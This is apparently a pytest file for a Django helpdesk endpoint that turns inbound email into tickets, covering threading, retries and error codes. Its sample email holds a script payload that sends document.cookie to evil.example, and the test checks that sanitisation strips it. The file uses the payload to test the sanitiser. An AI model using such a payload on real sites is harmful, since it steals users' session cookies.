"""``POST /helpdesk/mail/inbound/``: a mail gateway posts the raw message with an API token."""

from __future__ import annotations

import pytest
from django.urls import reverse

from concord.core.identity.tokens import access_token_create
from concord.modules.helpdesk.models import Channel, MessageKind, Ticket
from concord.modules.helpdesk.services.settings import team_create

pytestmark = pytest.mark.django_db

URL = "/helpdesk/mail/inbound/"
RAW = (
    b"From: Somchai <somchai@example.co.th>\r\nTo: support@siam.example\r\nMessage-ID: <g1@example.co.th>\r\n"
    b"Subject: Invoice question\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<p>Why <b>twice</b>?<script>document.location='https://evil.example/'+document.cookie</script></p>\r\n"
)


def _post(client, body: bytes, *, token: str = "", content_type: str = "message/rfc822", **headers):
    if token:
        headers["HTTP_AUTHORIZATION"] = f"Bearer {token}"
    return client.post(URL, data=body, content_type=content_type, **headers)


@pytest.fixture
def gateway_token(company, make_user):
    team_create(company=company, name="Customer support", by=None, email_address="support@siam.example")
    user = make_user(company=company, roles=("support",))
    return access_token_create(user=user, name="mail gateway")[1]


def test_inbound_endpoint_creates_and_threads_tickets(client, gateway_token):
    assert reverse("helpdesk:mail-inbound") == URL
    created = _post(client, RAW, token=gateway_token)
    assert created.status_code == 202, created.content
    ticket = Ticket.objects.get()
    assert created.json() == {
        "number": ticket.number,
        "tickets": [{"id": ticket.pk, "number": ticket.number, "created": True}],
    }
    assert ticket.channel == Channel.EMAIL
    html = ticket.messages.get(kind=MessageKind.CUSTOMER).body_html
    assert "<b>twice</b>" in html
    assert "<script" not in html
    assert "cookie" not in html

    # The same message again (a gateway retry) is accepted and changes nothing.
    again = _post(client, RAW, token=gateway_token)
    assert again.status_code == 202
    assert again.json()["tickets"][0]["created"] is False
    # A follow-up carrying the ticket number in the subject, addressed through the envelope header only.
    follow_up = (
        b"From: somchai@example.co.th\r\nMessage-ID: <g2@example.co.th>\r\n"
        b"Subject: Re: [" + ticket.number.encode() + b"] Invoice question\r\n\r\nAny news?\r\n"
    )
    threaded = _post(
        client,
        follow_up,
        token=gateway_token,
        content_type="text/plain",
        HTTP_X_CONCORD_RECIPIENT="support@siam.example",
    )
    assert threaded.status_code == 202
    assert threaded.json()["number"] == ticket.number
    assert Ticket.objects.count() == 1
    assert ticket.messages.filter(kind=MessageKind.CUSTOMER).count() == 2


def test_inbound_endpoint_refuses_bad_calls(client, gateway_token, make_company, make_user, settings):
    assert _post(client, RAW).status_code == 401
    assert _post(client, RAW, token="cc_abcdefgh_not-a-real-token").status_code == 401
    assert client.get(URL).status_code == 405

    no_sender = _post(client, b"To: support@siam.example\r\nSubject: x\r\n\r\nhello\r\n", token=gateway_token)
    assert no_sender.status_code == 400
    assert no_sender.json()["error"]["code"] == "no_sender"
    assert _post(client, b"   ", token=gateway_token).status_code == 400
    assert _post(client, RAW, token=gateway_token, content_type="application/json").status_code == 415

    unknown = _post(client, RAW.replace(b"support@siam", b"sales@siam"), token=gateway_token)
    assert unknown.status_code == 404
    assert unknown.json()["error"]["fields"] == {"recipient": ["Unknown address."]}

    # Another company's team address is not revealed: 404, as for an unknown address.
    other = make_company(name="Other Co", code="other")
    team_create(company=other, name="Support", by=None, email_address="help@other.example")
    assert (
        _post(
            client, RAW.replace(b"support@siam.example", b"help@other.example"), token=gateway_token
        ).status_code
        == 404
    )
    # A member of that company without helpdesk rights: 403.
    clerk = make_user(company=other, roles=("warehouse",))
    clerk_token = access_token_create(user=clerk, name="gateway")[1]
    denied = _post(client, RAW.replace(b"support@siam.example", b"help@other.example"), token=clerk_token)
    assert denied.status_code == 403

    settings.CONCORD_HELPDESK_MAIL_MAX_BYTES = 1000
    too_large = _post(client, RAW + b"x" * 2000, token=gateway_token)
    assert too_large.status_code == 413
    assert not Ticket.objects.exists()
